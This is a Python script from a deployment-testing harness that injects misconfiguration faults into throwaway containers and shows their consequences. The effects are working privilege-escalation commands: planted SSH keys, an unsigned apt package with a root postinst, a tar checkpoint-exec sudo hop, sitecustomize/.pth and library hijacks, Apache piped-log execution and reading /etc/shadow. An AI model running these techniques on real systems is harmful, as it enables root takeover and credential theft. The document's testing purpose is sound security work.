"""Show each blind11 fault's consequence on fresh containers of the campaign's snapshot: inject the fault exactly
as the campaign does, then run its effect: a shell as root in the container (``runuser`` to act as another
account), or from the runner: ``RUNNERPW:`` a login with the deploy login's password (paramiko), ``DEPLOY:`` a
deploy of another build with the pipeline, ``ROLLBACK:`` a rollback with the pipeline, ``PARALLEL:`` N logins at
once (paramiko), each followed by an optional shell in the container.

    python blind11/effects11.py PLATFORM ID-PREFIX [ID-PREFIX ...]
"""
import os
import sys
import threading
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import paramiko

sys.path.insert(0, str(Path(__file__).parent))
from deploytests import pipeline
from deploytests.config import load_config
from deploytests.containers import Fleet
from deploytests.faults.catalogue import script
from deploytests.faults.run import Campaign
from deploytests.stacks import for_platform
from deploytests.suite.lab import APPS

from faults import ALLOWED, PLAIN
from members import MEMBERS

APP = APPS / "yourapplication"
camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
snap = {"tag": camp.snapshot()}
V = camp.values
H = "-H 'Host: localhost' http://127.0.0.1"
IP = "$(hostname -i | cut -d' ' -f1)"


def pth(tag: str) -> str:
    """The deploy login plants a .pth in its live release's venv that records who ran it."""
    return ("d=$(ls -d {root}/current/venv/lib/python*/site-packages); "
            f"printf 'import os; open(\"/tmp/{tag}-ran-as\", \"a\").write(str(os.getuid()) + \" \")\\n' > $d/zz-{tag}.pth; "
            f"chown {{login}} $d/zz-{tag}.pth; rm -f /tmp/{tag}-ran-as")


APPW = "runuser -u {app_user} -- "
D = "{root}/shared/data"


def piped(tag: str, dest: str, op: str = ">") -> str:
    """The app user writes a logger script in /tmp and an ErrorLog line piping to it into dest."""
    return (APPW + f"sh -c 'printf \"#!/bin/sh\\nid > /tmp/{tag}-ran-as\\nexec cat >/dev/null\\n\" > /tmp/{tag}.sh; "
            f"chmod 755 /tmp/{tag}.sh; echo \"ErrorLog |/tmp/{tag}.sh\" {op} {dest}'; ")
EFFECT = {
    "p01": "DEPLOY:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's,^,after: GET / ,'; readlink {{root}}/current",
    "p02": "DEPLOY:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's/^/after the deploy: /'; " + "echo 'but the package the daemons imported is the kept release one:'; cat /tmp/p02-loaded",
    "p03": "DEPLOY:" + f"curl -s -o /dev/null -w 'loopback GET /: %{{{{http_code}}}}\\n' {H}/; curl -s -o /dev/null -w 'public GET / (the server address): %{{{{http_code}}}}\\n' -H 'Host: localhost' http://{IP}/",
    "p25": "SHELL:" + "mkdir -p /srv/repo/pkg/DEBIAN; printf 'Package: evil\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: x <x@example.com>\\nDescription: x\\n' > /srv/repo/pkg/DEBIAN/control; printf '#!/bin/sh\\nid > /tmp/p25-ran-as\\n' > /srv/repo/pkg/DEBIAN/postinst; chmod 755 /srv/repo/pkg/DEBIAN/postinst; dpkg-deb -b /srv/repo/pkg /srv/repo/evil_1.0_all.deb >/dev/null; cd /srv/repo; s=$(stat -c %s evil_1.0_all.deb); h=$(sha256sum evil_1.0_all.deb | cut -d' ' -f1); printf 'Package: evil\\nVersion: 1.0\\nArchitecture: all\\nMaintainer: x <x@example.com>\\nDescription: x\\nFilename: ./evil_1.0_all.deb\\nSize: %s\\nSHA256: %s\\n\\n' $s $h > Packages; echo 'deb file:/srv/repo ./' > /etc/apt/sources.list.d/mirror.list; apt-get update -o Dir::Etc::sourcelist=/etc/apt/sources.list.d/mirror.list -o Dir::Etc::sourceparts=- 2>&1 | tail -2; DEBIAN_FRONTEND=noninteractive apt-get install -y evil 2>&1 | grep -i -m2 'warn\\|authentic'; echo -n 'root apt installed an unsigned package, its postinst ran as: '; cat /tmp/p25-ran-as",
    "p04": "SHELL:" + APPW + "ssh-keygen -q -t ed25519 -N '' -f /tmp/p04key; " + APPW + "sh -c 'cat /tmp/p04key.pub >> /home/{login}/.ssh/authorized_keys'; echo -n 'the app user key logs in as {login} and sudo says: '; ssh -i /tmp/p04key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR {login}@127.0.0.1 sudo -n id",
    "p20": "ROLLBACK:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's/^/after the rollback: /'; " + "echo 'the code that ran is the live release one (marker written by its __init__):'; cat /tmp/p20-loaded",
    "p21": "ROLLBACK:" + f"curl -s -w ' <- GET / after the rollback: %{{{{http_code}}}}\\n' {H}/",
    "p22": "ROLLBACK:" + f"curl -s {H}/; echo ' <- after the rollback'; " + "echo -n 'bytes in the shared visits file: '; wc -c < {root}/shared/data/visits; echo -n 'bytes in the stale copy the app now writes: '; wc -c < {root}/shared/data-2026-11/visits",
    "p23": "ROLLBACK:" + f"curl -s -w ' <- GET / after the rollback: %{{{{http_code}}}}\\n' {H}/",
    "p05": "SHELL:" + APPW + "ssh-keygen -q -t ed25519 -N '' -f /tmp/p05key; " + APPW + "sh -c 'cat /tmp/p05key.pub > " + D + "/keys/{login}; chmod 644 " + D + "/keys/{login}'; echo -n 'the app user key (in its own data) logs in as {login}, sudo says: '; ssh -i /tmp/p05key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o LogLevel=ERROR {login}@127.0.0.1 sudo -n id",
    "p06": "SHELL:" + piped("p06", "/tmp/p06.conf") + APPW + "sh -c 'printf \"ServerRoot /etc/apache2\\nInclude /etc/apache2/mods-enabled/mpm_event.load\\nListen 127.0.0.1:8098\\nPidFile /tmp/p06.pid\\n\" >> /tmp/p06.conf'; cat /tmp/p06.conf; " + APPW + "sudo -n /usr/sbin/apache2ctl -f /tmp/p06.conf -k start; sleep 2; echo -n 'the app user sudo apache2ctl ran its piped log as: '; cat /tmp/p06-ran-as",
    "p07": "SHELL:" + "echo -n 'the app user su root -c id: '; " + APPW + "su root -c id </dev/null",
    "p08": "SHELL:" + f"sleep 2; curl -s -o /dev/null {H}/?token=VICTIM-TOKEN-123; curl -s -H 'Host: localhost' 'http://{IP}/server-status' | grep -o 'GET /[?]token=[A-Z0-9-]*' | head -1 | sed 's/^/the public reads from server-status: /'",
    "p09": "SHELL:" + f"curl -s -X TRACE -H 'Host: localhost' -H 'Cookie: session=VICTIM-SESSION' http://{IP}/ | grep -i -m1 cookie | sed 's/^/TRACE echoes: /'",
    "p10": "SHELL:" + "p=$(pgrep -u www-data -x apache2 | head -1); echo \"an Apache child (pid $p) $(grep Gid /proc/$p/status)\"; echo -n 'as www-data with that group, lines of the app config readable: '; setpriv --reuid www-data --regid {app_group} --clear-groups cat {config} | wc -l",
    "p11": "SHELL:" + APPW + "sh -c 'printf \"import os\\ndef application(e, s):\\n    s(\\\"200 OK\\\", [])\\n    return [b\\\"uid=%d\\\" %% os.getuid()]\\n\" > " + D + "/ops.wsgi'; " + f"echo -n 'GET /ops ran the app user file in Apache own child as: '; curl -s {H}/ops; echo",
    "p12": "DEPLOY:" + "echo -n 'after a clean deploy of another build, the app user sitecustomize ran in the daemons as: '; " + f"curl -s -o /dev/null {H}/; sleep 1; cat /tmp/p12-ran-as",
    "p13": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/p13-ran-as\\\", \\\"a\\\").write(str(os.getuid()))\" > " + D + "/lib/sitecustomize.py'; su - root -c 'python3 -c pass'; echo -n 'root su - session python3 ran the app user sitecustomize as uid: '; cat /tmp/p13-ran-as",
    "p14": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/p14-ran-as\\\", \\\"a\\\").write(str(os.getuid()))\" > " + D + "/site/zz.pth'; python3 -c pass; echo -n 'root python3 ran the app user .pth as uid: '; cat /tmp/p14-ran-as",
    "p15": "SHELL:" + APPW + "sh -c 'printf \"[openssl_init]\\nengines = eng\\n[eng]\\nx = x_sect\\n[x_sect]\\ndynamic_path = " + D + "/libx.so\\ninit = 1\\n\" > " + D + "/tls.cnf'; echo 'root openssl version now loads the engine the app user named:'; openssl version 2>&1 | grep -m1 -o 'filename([^)]*)'",
    "p16": "SHELL:" + "l=$(ldconfig -p | sed -n 's/.*libz.so.1 .*=> //p' | head -1); " + APPW + "cp $l " + D + "/lib64/libz.so.1; ldconfig; echo -n 'after the next ldconfig (any package install), root curl loads libz from: '; ldd /usr/bin/curl | grep -m1 libz.so",
    "p17": "SHELL:" + piped("p17", "/etc/apache2/conf-enabled/zz-app.conf") + "apache2ctl graceful; sleep 2; echo -n 'root Apache ran the app user piped log as: '; cat /tmp/p17-ran-as",
    "p18": "SHELL:" + "echo -n 'the app user reads /etc/shadow with tar: '; " + APPW + "tar -cf - /etc/shadow 2>/dev/null | tar -xOf - | head -c 20; echo",
    "p19": "SHELL:" + "cd /tmp; " + APPW + "sudo -n -u {login} /bin/tar -cf /dev/null /etc/hostname --checkpoint=1 \"--checkpoint-action=exec=sudo -n id > /tmp/p19-ran-as\"; echo -n 'app user -> tar as {login} -> sudo: '; cat /tmp/p19-ran-as",
    "a01": "SHELL:" + piped("a01", "/etc/apache2/conf-available/other-vhosts-access-log.conf", ">>") + "apache2ctl graceful; sleep 2; echo -n 'root Apache ran the app user (adm) piped log as: '; cat /tmp/a01-ran-as",
    "a02": "SHELL:" + APPW + "sh -c 'printf \"#!/bin/sh\\nid > /tmp/a02-ran-as\\n\" > " + D + "/bin/tar; chmod 755 " + D + "/bin/tar'; P=$(sed -n 's/^PATH=//p' /etc/cron.d/app-backup); J=$(sed -n 's/^30 3 [*] [*] [*] root //p' /etc/cron.d/app-backup); env -i PATH=$P sh -c \"$J\"; echo -n 'root cron job (as cron runs it, the file PATH) ran the app user tar as: '; cat /tmp/a02-ran-as",
    "a03": "SHELL:" + f"echo -n 'the public GET /visits on the status site: '; curl -s -o /dev/null -w '%{{{{http_code}}}} %{{{{size_download}}}} bytes\\n' -H 'Host: status.example.com' http://{IP}/visits; curl -s -H 'Host: status.example.com' http://{IP}/initialized; echo",
    "a04": "SHELL:" + piped("a04", D + "/apache/x.conf") + "apache2ctl graceful; sleep 2; echo -n 'root Apache ran the app user piped log as: '; cat /tmp/a04-ran-as",
    "a05": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/a05-ran-as\\\", \\\"w\\\").write(str(os.getuid())); from importlib import import_module\" > /opt/metrics/socketserver.py'; pkill -f '^/usr/bin/python3 /opt/metrics/exporter.py'; sleep 0.5; (cd / && setsid runuser -u www-data -- /usr/bin/python3 /opt/metrics/exporter.py </dev/null >/dev/null 2>&1 &); sleep 1; echo -n 'the restarted exporter imported the app user module as uid: '; cat /tmp/a05-ran-as",
    "a06": "SHELL:" + f"echo -n 'from the network, memcached at {IP}:11211 says: '; python3 -c \"import socket; s=socket.create_connection(('$(hostname -i | cut -d' ' -f1)', 11211)); s.sendall(b'version\\\\r\\\\n'); print(s.recv(100))\"",
    "a07": "SHELL:" + APPW + "sh -c 'printf \"id > /tmp/a07-ran-as\\n. /etc/apache2/envvars\\n\" > /tmp/a07.sh'; " + APPW + "env APACHE_ENVVARS=/tmp/a07.sh sudo -n /usr/sbin/apache2ctl graceful; echo -n 'root apache2ctl sourced the app user file: '; cat /tmp/a07-ran-as",
    "a08": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/a08-ran-as\\\", \\\"w\\\").write(str(os.getuid())); from importlib import import_module\" > " + D + "/lib/socketserver.py'; pkill -f '^/usr/bin/python3 /opt/metrics/exporter.py'; sleep 0.5; (cd / && setsid runuser -u www-data -- env PYTHONPATH=" + D + "/lib /usr/bin/python3 /opt/metrics/exporter.py </dev/null >/dev/null 2>&1 &); sleep 1; echo -n 'the restarted exporter imported the app user module as uid: '; cat /tmp/a08-ran-as",
}
RESTART = ("pkill -f '^/usr/bin/python3 /opt/metrics/exporter.py'; sleep 0.5; (cd / && setsid setpriv --reuid www-data "
           "--regid www-data --clear-groups {env}/usr/bin/python3 /opt/metrics/exporter.py </dev/null >/dev/null 2>&1 &); sleep 1; ")
EFFECT.update({
    "m1": "SHELL:" + APPW + "sh -c 'printf \"#!/bin/sh\\nid > /tmp/m1-ran-as\\n\" > " + D + "/bin/nightly.sh'; sh -c \"$(sed -n 's/^45 3 [*] [*] [*] root //p' /etc/cron.d/app-backup)\"; echo -n 'root job (as cron runs it) ran the app user script as: '; cat /tmp/m1-ran-as",
    "m2": "SHELL:" + APPW + "sh -c '{{ echo \"import os; open(\\\"/tmp/m2-ran-as\\\", \\\"w\\\").write(str(os.getuid()))\"; cat /opt/metrics/exporter.py; }} > /tmp/m2.py; cat /tmp/m2.py > /opt/metrics/exporter.py'; " + RESTART.format(env="") + "echo -n 'the restarted exporter ran the app user line as uid: '; cat /tmp/m2-ran-as",
    "m3": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/m3-ran-as\\\", \\\"w\\\").write(str(os.getuid())); from importlib import import_module\" > /var/tmp/exporter-lib/socketserver.py'; " + RESTART.format(env="env PYTHONPATH=/var/tmp/exporter-lib ") + "echo -n 'the restarted exporter imported the app user module as uid: '; cat /tmp/m3-ran-as",
    "m4": "SHELL:" + APPW + "sh -c 'echo \"import os; open(\\\"/tmp/m4-ran-as\\\", \\\"w\\\").write(str(os.getuid())); from importlib import import_module\" > /opt/metrics/socketserver.py'; " + RESTART.format(env="") + "echo -n 'the restarted exporter imported the app user module as uid: '; cat /tmp/m4-ran-as",
})
PRE = {
    # (the releases' .pyc are unchecked-hash: a marker in a .py needs its .pyc gone to be the code that runs)
    "p02": "printf '\\nopen(\"/tmp/p02-loaded\", \"a\").write(__file__ + \"\\\\n\")\\n' >> {prev_site}/{package}/__init__.py; rm -f {prev_site}/{package}/__pycache__/__init__.*",
    "p20": "printf '\\nopen(\"/tmp/p20-loaded\", \"a\").write(\"live code: \" + __file__ + \"\\\\n\")\\n' >> {site}/{package}/__init__.py; rm -f {site}/{package}/__pycache__/__init__.*",
    "p12": APPW + "sh -c 'echo \"import os; open(\\\"/tmp/p12-ran-as\\\", \\\"a\\\").write(str(os.getuid()) + \\\" \\\")\" > " + D + "/lib/sitecustomize.py'",
    "p22": f"for i in 1 2 3; do curl -s -o /dev/null {H}/; done; curl -s {H}/; echo ' <- before the rollback'",
}
FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED + MEMBERS}


def shell(container, cmd):
    res = container.exec_run(["sh", "-c", cmd.format(**V)], user="root")
    return f"rc={res.exit_code}:\n{res.output.decode(errors='replace').strip()[-1500:]}"


def login(server, **kw):
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())  # a throwaway container of our own, on 127.0.0.1
    c.connect(server.host, server.port, username=server.user, allow_agent=False, look_for_keys=False, timeout=15,
              banner_timeout=15, auth_timeout=15, **kw)
    return c


def one(fid, server, container):
    f = FAULTS[fid]
    out = [f"##### {f.id}: {f.what}"]
    res = container.exec_run(script(f, V), user="root")
    out.append(f"inject rc={res.exit_code} {res.output.decode(errors='replace').strip()[-300:]}")
    if fid in PRE:
        out.append("before " + shell(container, PRE[fid]))
    kind, _, rest = EFFECT[fid].partition(":")
    try:
        if kind == "SHELL":
            out.append("effect " + shell(container, rest))
            if False:
                import urllib.request
                op = urllib.request.build_opener(urllib.request.ProxyHandler({"http": server.base_url}))
                try:
                    body = op.open("http://127.0.0.1:8099/secret.txt", timeout=10).read().decode(errors="replace")
                    out.append(f"runner, the server as its proxy, GET http://127.0.0.1:8099/secret.txt (the server's loopback): {body.strip()!r}")
                except Exception as exc:  # noqa: BLE001
                    out.append(f"runner through the proxy: {exc}")
        elif kind == "RUNNERPW":
            c = login(server, password="Welcome2026")
            _, o, e = c.exec_command(rest, timeout=20)
            out.append(f"password login as {server.user}: {o.read().decode().strip()} {e.read().decode().strip()}")
            c.close()
        elif kind == "PARALLEL":
            n, ok, errs = int(rest), [], []

            def try_one(i):
                try:
                    c = login(server, key_filename=str(fleet_key["path"]))
                    _, o, _ = c.exec_command("true; echo ok", timeout=20)
                    ok.append(o.read().decode().strip())
                    c.close()
                except Exception as exc:  # noqa: BLE001
                    errs.append(f"{type(exc).__name__}: {exc}")
            ts = [threading.Thread(target=try_one, args=(i,)) for i in range(n)]
            [t.start() for t in ts]
            [t.join() for t in ts]
            out.append(f"{n} logins at once from the runner: {len(ok)} ok, {len(errs)} failed: {errs[:3]}")
        elif kind in ("DEPLOY", "ROLLBACK"):
            try:
                if kind == "DEPLOY":
                    r = pipeline.deploy(server.connection(), camp.cfg, camp.variant(7))
                    out.append(f"deploy of another build: ok, live {r.release_id}")
                else:
                    r = pipeline.rollback(server.connection(), camp.cfg)
                    out.append(f"rollback: ok {r}")
            except Exception as exc:  # noqa: BLE001 - the consequence
                out.append(f"{kind.lower()} FAILED: {type(exc).__name__}: {str(exc)[:700]}")
            if rest:
                out.append("then " + shell(container, rest))
    except Exception as exc:  # noqa: BLE001
        out.append(f"effect error: {type(exc).__name__}: {exc}")
    return "\n".join(out)


fleet_key: dict = {}
ids = [i for a in sys.argv[2:] for i in FAULTS if i.startswith(a)]
try:
    size = int(os.environ.get('FX_BATCH', '4'))
    for n in range(0, len(ids), size):
        chunk = ids[n:n + size]
        with Fleet(count=len(chunk), name_prefix="blind11fx", image_tag=snap["tag"], progress=lambda m: None) as fleet:
            fleet_key["path"] = fleet.key.path
            with ThreadPoolExecutor(max_workers=4) as pool:
                for text in pool.map(one, chunk, fleet.servers, fleet.containers):
                    print(text, flush=True)
finally:
    camp.remove_image()
